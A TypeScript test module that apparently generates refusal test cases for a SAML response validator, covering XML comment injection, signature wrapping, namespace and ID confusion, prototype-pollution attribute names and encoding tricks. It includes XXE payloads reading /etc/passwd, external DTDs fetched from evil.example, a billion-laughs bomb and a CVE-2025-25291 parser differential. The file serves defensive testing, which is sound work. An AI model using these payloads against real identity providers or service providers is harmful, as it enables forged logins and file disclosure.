import { createHash } from 'node:crypto'
import { deflateRawSync } from 'node:zlib'
import {
  ASSERTION,
  attribute,
  audiences,
  digestOf,
  type Exchange,
  elementOf,
  FORGED,
  GENUINE,
  nameID,
  OTHER,
  PROTOCOL,
  replace,
  signAssertion,
  signRoot,
} from './exchange.ts'
import { refused, type Vector } from './vector.ts'

type Build = (e: Exchange) => string

/** An address whose beginning is that of the victim; markup is put in after it was signed. */
const LONGER = `${FORGED}.evil.example`
const cutName =
  (markup: string): Build =>
  (e) =>
    replace(
      signAssertion(e.response({ name_id: nameID(LONGER) })),
      LONGER,
      `${FORGED}${markup}.evil.example`,
    )
const cutAttribute =
  (markup: string): Build =>
  (e) =>
    replace(
      signAssertion(e.response({ attributes: attribute('email', LONGER) })),
      `>${LONGER}<`,
      `>${FORGED}${markup}.evil.example<`,
    )
const cutAudience =
  (markup: (foreign: string) => string): Build =>
  (e) => {
    const foreign = '.attacker.example'
    const xml = signAssertion(e.response({ audience: audiences([e.asked.audience + foreign]) }))
    return replace(xml, foreign, markup(foreign))
  }
const mark =
  (insert: string): Build =>
  (e) =>
    replace(e.genuine, '<samlp:Status>', `${insert}<samlp:Status>`)
const prolog =
  (text: string): Build =>
  (e) =>
    text + e.genuine

/** X8: text that two readers cut differently. */
const comments: Vector[] = refused('X8', 'xml_forbidden_markup', {
  'a comment in the NameID': cutName('<!---->'),
  'a comment in the e-mail address': cutAttribute('<!-- -->'),
  'an instruction in the NameID': cutName('<?x?>'),
  'an instruction whose data is the text that was signed': (e) =>
    replace(e.genuine, `>${GENUINE}</saml:NameID>`, `>${FORGED}<?p ${GENUINE}?></saml:NameID>`),
  'an instruction with the rest of the address': (e) =>
    replace(
      signAssertion(e.response({ name_id: nameID(LONGER) })),
      LONGER,
      `${FORGED}<?p .evil.example?>`,
    ),
  'CDATA in the NameID': (e) =>
    replace(e.genuine, `>${GENUINE}</saml:NameID>`, `><![CDATA[${GENUINE}]]></saml:NameID>`),
  'CDATA in the e-mail address': (e) =>
    replace(
      e.genuine,
      `>${GENUINE}</saml:AttributeValue>`,
      `><![CDATA[${GENUINE}]]></saml:AttributeValue>`,
    ),
  'a comment that makes our Audience of a foreign one': cutAudience(
    (foreign) => `<!--${foreign}-->${foreign}`,
  ),
  'an instruction that makes our Audience of a foreign one': cutAudience(
    (foreign) => `<?p ${foreign}?>`,
  ),
  'a comment in the Issuer': (e) =>
    replace(e.genuine, `${e.issuer}</saml:Issuer>`, `${e.issuer}<!--x--></saml:Issuer>`),
  'a comment between elements': mark('<!-- x -->'),
  'a comment before the root': prolog('<!-- x -->'),
  'a comment after the root': (e) => `${e.genuine}<!-- x -->`,
  'an instruction before the root': prolog('<?x y?>'),
  'a stylesheet after the declaration': prolog(
    '<?xml version="1.0"?><?xml-stylesheet href="https://evil.example/"?>',
  ),
})

const entities =
  (subset: string): Build =>
  (e) =>
    `<!DOCTYPE r [${subset}]>${e.genuine}`
const bomb = Array.from(
  { length: 9 },
  (_, i) => `<!ENTITY e${i + 1} "${`&e${i};`.repeat(10)}">`,
).join('')

/** X9: document types and entities. */
const doctypes: Vector[] = [
  ...refused('X9', 'xml_forbidden_markup', {
    'a harmless document type': prolog('<!DOCTYPE r>'),
    'a document type in lower case': prolog('<!doctype r>'),
    'an external subset': prolog('<!DOCTYPE r SYSTEM "https://evil.example/x.dtd">'),
    'an external entity': entities('<!ENTITY x SYSTEM "file:///etc/passwd">'),
    'an external entity in the NameID': (e) =>
      entities('<!ENTITY x SYSTEM "file:///etc/passwd">')(e).replace(
        `>${GENUINE}</saml:NameID>`,
        '>&x;</saml:NameID>',
      ),
    'an entity with the forged address': (e) =>
      entities(`<!ENTITY x "${FORGED}">`)(e).replace(
        `>${GENUINE}</saml:NameID>`,
        '>&x;</saml:NameID>',
      ),
    'a parameter entity': entities('<!ENTITY % x SYSTEM "https://evil.example/"> %x;'),
    'a billion laughs': (e) => replace(entities(`<!ENTITY e0 "ha">${bomb}`)(e), 'Mallory', '&e9;'),
    'a quadratic entity': (e) =>
      replace(entities(`<!ENTITY a "${'a'.repeat(30_000)}">`)(e), 'Mallory', '&a;'.repeat(2_000)),
    'an attribute from the document type': entities(
      '<!ATTLIST samlp:Response Version CDATA "2.0">',
    ),
    'an ID from the document type': entities('<!ATTLIST saml:Assertion x ID #IMPLIED>'),
    'a document type after the declaration': prolog('<?xml version="1.0"?><!DOCTYPE r>'),
    'a document type in the middle': mark('<!DOCTYPE r>'),
    'an entity hidden from one parser (CVE-2025-25291)': (e) =>
      `<!DOCTYPE r [<!NOTATION n SYSTEM '"'><!ENTITY x '"]>${e.forgedResponse().replaceAll('"', "'")}<!--'>]>${e.genuine}<!---->`,
  }),
  ...refused('X9', 'xml', {
    'an unknown entity': mark('&nbsp;'),
    'an entity named constructor': mark('&constructor;'),
  }),
]

const onRoot =
  (attributes: string): Build =>
  (e) =>
    replace(e.genuine, ' Version="2.0"', ` Version="2.0" ${attributes}`)

/** X10: what two parsers read differently. */
const differentials: Vector[] = refused('X10', 'xml', {
  'a duplicate attribute': onRoot('Version="2.0"'),
  'an attribute under two prefixes': onRoot('xmlns:p="urn:p" xmlns:q="urn:p" p:x="1" q:x="2"'),
  'an unquoted attribute': (e) => replace(e.genuine, 'Version="2.0"', 'Version=2.0'),
  'an attribute without a value': onRoot('hidden'),
  'a raw < in an attribute': onRoot('x="<"'),
  'an end tag in another case': (e) => e.genuine.replace('</samlp:Response>', '</samlp:response>'),
  'an element that is not closed': mark('<x xmlns="urn:x">'),
  'overlapping elements': mark('<a><b></a></b>'),
  'text after the root': (e) => `${e.genuine}text`,
  'text before the root': prolog('text'),
  'a second root': (e) => e.genuine + e.forgedResponse(),
  'a forged root before the genuine one': (e) => e.forgedResponse() + e.genuine,
  'an undeclared prefix': mark('<x:x/>'),
  'the xmlns prefix bound': onRoot('xmlns:xmlns="urn:a"'),
  'the xml prefix bound elsewhere': onRoot('xmlns:xml="urn:a"'),
  'a prefix undeclared': mark('<a xmlns:samlp=""/>'),
  'a name with two colons': mark('<a:b:c xmlns:a="urn:a"/>'),
  'a local name that begins with a digit': mark('<a:1 xmlns:a="urn:a"/>'),
  ']]> in text': mark(']]>'),
  'a raw & in text': mark('& '),
  'a reference to NUL': mark('&#0;'),
  'a reference to half a surrogate pair': mark('&#xD800;'),
  'a control character': mark('\x01'),
  'U+FFFF': mark('\uffff'),
})

/** X11: namespaces whose canonical form is void or ambiguous, and a digest of nothing. */
const voids: Vector[] = [
  ...refused('X11', 'xml_namespace', {
    'a relative namespace': onRoot('xmlns:n="relative"'),
    'a namespace that is a fragment': onRoot('xmlns:n="#x"'),
    'a namespace of one digit': onRoot('xmlns:n="1"'),
    'a relative namespace, and the digest of nothing': (e) => {
      const empty = createHash('sha256').digest('base64')
      const xml = signAssertion(e.response({ assertion_attributes: ' xmlns:n="urn:n"' }), {
        edit: (signature) =>
          replace(
            signature,
            /<ds:DigestValue>.*<\/ds:DigestValue>/,
            `<ds:DigestValue>${empty}</ds:DigestValue>`,
          ),
      })
      return replace(xml, 'xmlns:n="urn:n"', 'xmlns:n="1"')
    },
    'a namespace with &': onRoot('xmlns:n="urn:a&amp;b"'),
    'a namespace with <': onRoot('xmlns:n="urn:a&lt;"'),
    'a namespace with a quote': onRoot('xmlns:n="urn:a&quot; x=&quot;1"'),
    'a namespace with a space': onRoot('xmlns:n="urn:a b"'),
    'a namespace with a tab': onRoot('xmlns:n="urn:a&#9;"'),
  }),
  ...refused('X11', 'assertion_signature_digest', {
    'a digest of nothing, signed by the right key': (e) =>
      signAssertion(e.response(), {
        edit: (xml) =>
          replace(
            xml,
            /<ds:DigestValue>.*<\/ds:DigestValue>/,
            `<ds:DigestValue>${createHash('sha256').digest('base64')}</ds:DigestValue>`,
          ),
      }),
  }),
]

const onAssertion =
  (attributes: string): Build =>
  (e) =>
    signAssertion(e.response({ assertion_attributes: ` ${attributes}` }))

/** X12: IDs in disguise, and elements in look-alike namespaces. */
const pollution: Vector[] = [
  ...refused('X12', 'structure', {
    'id beside ID': onAssertion('id="_x"'),
    'Id beside ID': onAssertion('Id="_x"'),
    'iD beside ID': onAssertion('iD="_x"'),
    'xml:id beside ID': onAssertion('xml:id="_x"'),
    'saml:ID beside ID': onAssertion('saml:ID="_x"'),
    'an ID of a foreign namespace': onAssertion('xmlns:f="urn:f" f:ID="_x"'),
    'samlp:ID on the Response': onRoot(`xmlns:q="${PROTOCOL}" q:ID="_x"`),
    'the ID of the Assertion on the Response': (e) =>
      replace(e.genuine, 'ID="_response-1"', `ID="${e.assertion_id}"`),
    'the ID of the Assertion on the signature': (e) =>
      replace(e.genuine, '<ds:Signature ', `<ds:Signature Id="${e.assertion_id}" `),
    'the ID of the Assertion on a NameID': (e) =>
      replace(e.genuine, '<saml:NameID ', `<saml:NameID ID="${e.assertion_id}" `),
    'an ID that is no name': (e) => replace(e.genuine, 'ID="_response-1"', 'ID="#x"'),
    'an empty ID': (e) => replace(e.genuine, 'ID="_response-1"', 'ID=""'),
    'no ID on the Response': (e) => replace(e.genuine, 'ID="_response-1" ', ''),
    'no ID on the Assertion of a signed Response': (e) =>
      signRoot(e.response().replace(`ID="${e.assertion_id}" `, ''), 'Response'),
    'an Assertion whose namespace has a slash more': (e) =>
      e.response({}, `${e.signedAssertion}${e.forged().replace(ASSERTION, `${ASSERTION}/`)}`),
    'an Assertion whose prefix is bound anew': (e) =>
      e.response(
        {},
        `${e.signedAssertion}${e.forged().replace(`xmlns:saml="${ASSERTION}"`, 'xmlns:saml="urn:x"')}`,
      ),
    'the Status in another namespace': (e) =>
      replace(e.genuine, '<samlp:Status>', '<samlp:Status xmlns:samlp="urn:x">'),
  }),
  ...refused('X12', 'response_element', {
    'a Response of a look-alike namespace': (e) => e.genuine.replace(PROTOCOL, `${PROTOCOL}/`),
    'a Response of no namespace': (e) =>
      e.genuine.replace(`xmlns:samlp="${PROTOCOL}"`, 'xmlns:samlp="urn:x"'),
  }),
  ...refused('X12', 'name_id', {
    'a NameID of a look-alike namespace': (e) =>
      signAssertion(
        e.response({ name_id: `<f:NameID xmlns:f="${ASSERTION}/">${OTHER}</f:NameID>` }),
      ),
  }),
]

const signedAttributes =
  (xml: string): Build =>
  (e) =>
    signAssertion(e.response({ attributes: xml }))

/** X20: names that come twice, or that mean something to a JavaScript object. */
const names: Vector[] = [
  ...refused('X20', 'attribute_email', {
    'two e-mail attributes': signedAttributes(
      attribute('email', GENUINE) + attribute('email', OTHER),
    ),
    'two e-mail attributes, the forged one first': signedAttributes(
      attribute('email', OTHER) + attribute('email', GENUINE),
    ),
    'two e-mail addresses in one attribute': signedAttributes(attribute('email', GENUINE, OTHER)),
    'two AttributeStatements': (e) =>
      signAssertion(
        e.response({
          end_of_assertion: `<saml:AttributeStatement>${attribute('email', OTHER)}</saml:AttributeStatement>`,
        }),
      ),
  }),
  ...refused('X20', 'attribute_first_name', {
    'two first names': signedAttributes(
      attribute('email', GENUINE) + attribute('firstName', 'A') + attribute('firstName', 'B'),
    ),
  }),
  ...refused('X20', 'email', {
    'the e-mail address as __proto__': signedAttributes(attribute('__proto__', OTHER)),
    'the e-mail address as constructor': signedAttributes(attribute('constructor', OTHER)),
    'the e-mail address as Email': signedAttributes(attribute('Email', OTHER)),
    'the e-mail address by its FriendlyName': signedAttributes(
      `<saml:Attribute Name="x" FriendlyName="email"><saml:AttributeValue>${OTHER}</saml:AttributeValue></saml:Attribute>`,
    ),
    'an e-mail address with two @': signedAttributes(attribute('email', `${OTHER}@evil.example`)),
    'an e-mail address with a zero-width space': signedAttributes(
      attribute('email', `${OTHER.replace('@', '\u200b@')}`),
    ),
    'an e-mail address written right to left': signedAttributes(
      attribute('email', `\u202e${OTHER}`),
    ),
    'two addresses with a line break': signedAttributes(
      attribute('email', `${OTHER}&#10;${GENUINE}`),
    ),
  }),
  ...refused('X20', 'assertion_content', {
    'no Subject, and an attribute named nameID': (e) => {
      const xml = e.response({
        attributes: attribute('nameID', OTHER) + attribute('email', OTHER),
      })
      return signAssertion(xml.replace(elementOf(xml, 'saml:Subject'), ''))
    },
  }),
  ...refused('X20', 'attributes', {
    'an attribute without a name': signedAttributes(
      attribute('email', GENUINE) + attribute('', OTHER),
    ),
    'an encrypted attribute': signedAttributes(
      '<saml:EncryptedAttribute></saml:EncryptedAttribute>',
    ),
  }),
]

const bytes = (make: (xml: string) => Buffer) => (xml: string) => make(xml).toString('base64')
const spliced = (...octets: number[]) =>
  bytes((xml) => {
    const [start = '', end = ''] = xml.split('>Mallory<')
    return Buffer.concat([Buffer.from(`${start}>Ma`), Buffer.from(octets), Buffer.from(`<${end}`)])
  })
const genuine: Build = (e) => e.genuine
const padded: Build = (e) =>
  `${e.genuine} `.padEnd(e.genuine.length + 3 - (e.genuine.length % 3) + 1)

/** X21: encodings. */
const encodings: Vector[] = [
  ...refused(
    'X21',
    'xml_encoding',
    { 'UTF-16': genuine },
    bytes((xml) => Buffer.from(`\ufeff${xml}`, 'utf16le')),
  ),
  ...refused('X21', 'xml_encoding', { 'invalid UTF-8': genuine }, spliced(0xff)),
  ...refused('X21', 'xml_encoding', { 'overlong UTF-8': genuine }, spliced(0xc0, 0xbc)),
  ...refused(
    'X21',
    'xml_encoding',
    { 'half a surrogate pair in UTF-8': genuine },
    spliced(0xed, 0xa0, 0x80),
  ),
  ...refused('X21', 'xml_encoding', { 'Latin-1': genuine }, spliced(0xe9)),
  ...refused('X21', 'xml_encoding', {
    'UTF-16 declared': prolog('<?xml version="1.0" encoding="UTF-16"?>'),
    'Latin-1 declared': prolog('<?xml version="1.0" encoding="ISO-8859-1"?>'),
    'UTF-7 declared': prolog('<?xml version="1.0" encoding="UTF-7"?>'),
    'XML 1.1': prolog('<?xml version="1.1"?>'),
    'the encoding before the version': prolog('<?xml encoding="UTF-8" version="1.0"?>'),
    'a declaration with something more': prolog('<?xml version="1.0" x="1"?>'),
  }),
  ...refused('X21', 'xml_forbidden_markup', {
    'a declaration after white space': prolog(' <?xml version="1.0"?>'),
    'two declarations': prolog('<?xml version="1.0"?><?xml version="1.0"?>'),
  }),
  ...refused('X21', 'xml', {
    'two byte order marks': prolog('\ufeff\ufeff'),
    NUL: mark('\0'),
    'a NUL at the end': (e) => `${e.genuine}\0`,
  }),
  ...refused(
    'X21',
    'base64',
    { 'a character that is not base64': genuine },
    (xml) => `!${Buffer.from(xml).toString('base64')}`,
  ),
  ...refused(
    'X21',
    'base64',
    { base64url: (e) => replace(e.genuine, 'Mallory', 'ÿÿÿ¿¿¿>>>???'.replaceAll('>', '&gt;')) },
    (xml) => `${Buffer.from(xml).toString('base64').replaceAll('/', '_').replaceAll('+', '-')}-_`,
  ),
  ...refused('X21', 'base64', { 'a missing pad': padded }, (xml) =>
    Buffer.from(xml).toString('base64').replace(/=+$/, ''),
  ),
  ...refused('X21', 'base64', { 'bits beyond the end': padded }, (xml) =>
    Buffer.from(xml)
      .toString('base64')
      .replace(/(.)==$/, 'h=='),
  ),
  ...refused('X21', 'base64', { 'two base64 texts': padded }, (xml) =>
    Buffer.from(xml).toString('base64').repeat(2),
  ),
  ...refused(
    'X21',
    'base64',
    { 'a form feed in base64': genuine },
    (xml) => `\f${Buffer.from(xml).toString('base64')}`,
  ),
  ...refused(
    'X21',
    'base64',
    { 'base64 in percent escapes': genuine },
    (xml) => `${encodeURIComponent(Buffer.from(xml).toString('base64'))}%3D`,
  ),
  ...refused('X21', 'xml', { 'base64 twice': genuine }, (xml) =>
    Buffer.from(Buffer.from(xml).toString('base64')).toString('base64'),
  ),
  ...refused('X21', 'xml_encoding', { 'deflated, as in a redirect': genuine }, (xml) =>
    deflateRawSync(xml).toString('base64'),
  ),
  ...refused('X21', 'saml_response', { 'white space alone': genuine }, () => ' \r\n'),
]

/** X7: something else that the identity provider signed. */
const others: Vector[] = [
  ...refused('X7', 'response_element', {
    'signed metadata': (e) =>
      signRoot(
        `<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" ID="_md" entityID="${e.issuer}"><md:Extensions>${e.forged()}</md:Extensions></md:EntityDescriptor>`,
        'EntityDescriptor',
      ),
    'a signed LogoutRequest': (e) =>
      signedMessage(
        e,
        'LogoutRequest',
        nameID(FORGED).replace('<saml:NameID', `<saml:NameID xmlns:saml="${ASSERTION}"`),
      ),
    'a signed LogoutResponse': (e) => signedMessage(e, 'LogoutResponse', ''),
    'a signed AuthnRequest around a forged Assertion': (e) =>
      signedMessage(e, 'AuthnRequest', e.forged()),
    'a signed ArtifactResponse around a Response': (e) =>
      signedMessage(e, 'ArtifactResponse', e.forgedResponse()),
    'a signed Assertion without a Response': (e) => e.signedAssertion,
    'a Response of SAML 1.1': (e) =>
      e.genuine.replace(PROTOCOL, 'urn:oasis:names:tc:SAML:1.0:protocol'),
  }),
  ...refused('X7', 'structure', {
    'a signed LogoutRequest in a forged Response': (e) =>
      e.response(
        {
          before_status: `<samlp:Extensions>${signedMessage(e, 'LogoutRequest', '')}</samlp:Extensions>`,
        },
        e.forged(),
      ),
    'the signature of metadata at a forged Assertion': (e) =>
      e.response(
        {},
        e.forged(
          signRoot(
            `<md:EntityDescriptor xmlns:md="urn:oasis:names:tc:SAML:2.0:metadata" ID="_md" entityID="${e.issuer}"></md:EntityDescriptor>`,
            'EntityDescriptor',
          ),
        ),
      ),
  }),
  ...refused('X7', 'assertion_signature_reference', {
    'a signature over the Subject alone': (e) => {
      const xml = e
        .response()
        .replace('<saml:Subject>', '<saml:Subject xml:lang="en" x="_subject">')
      const digest = digestOf(xml, '//*[local-name()="Subject"]')
      return signAssertion(xml, {
        edit: (signature) =>
          replace(
            replace(signature, `#${e.assertion_id}`, '#_subject'),
            /<ds:DigestValue>.*<\/ds:DigestValue>/,
            `<ds:DigestValue>${digest}</ds:DigestValue>`,
          ),
      })
    },
  }),
]

function signedMessage(e: Exchange, local: string, content: string): string {
  return signRoot(
    `<samlp:${local} xmlns:samlp="${PROTOCOL}" ID="_message" Version="2.0" IssueInstant="${e.at(0)}"><saml:Issuer xmlns:saml="${ASSERTION}">${e.issuer}</saml:Issuer>${content}</samlp:${local}>`,
    local,
  )
}

/** XML that is read differently than it was signed. */
export const TEXT: readonly Vector[] = [
  ...others,
  ...comments,
  ...doctypes,
  ...differentials,
  ...voids,
  ...pollution,
  ...names,
  ...encodings,
]
